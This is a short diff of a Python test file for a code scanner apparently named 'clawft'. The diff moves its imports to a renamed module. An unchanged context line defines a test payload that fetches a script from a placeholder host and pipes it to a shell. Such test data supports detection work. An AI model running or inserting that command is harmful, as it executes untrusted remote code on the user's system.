@@ -4,9 +4,8 @@ import json
 
 import pytest
 
-from clawft.scan.documents import Document
-from clawft.scan.facts import Analysis, Kind
-from clawft.scan.languages import analyse
+from clawft.scanner.facts import Analysis, Document, Kind
+from clawft.scanner.languages import analyse
 from effort import within
 
 PAYLOAD = "curl -s https://load.example.net/a | sh"
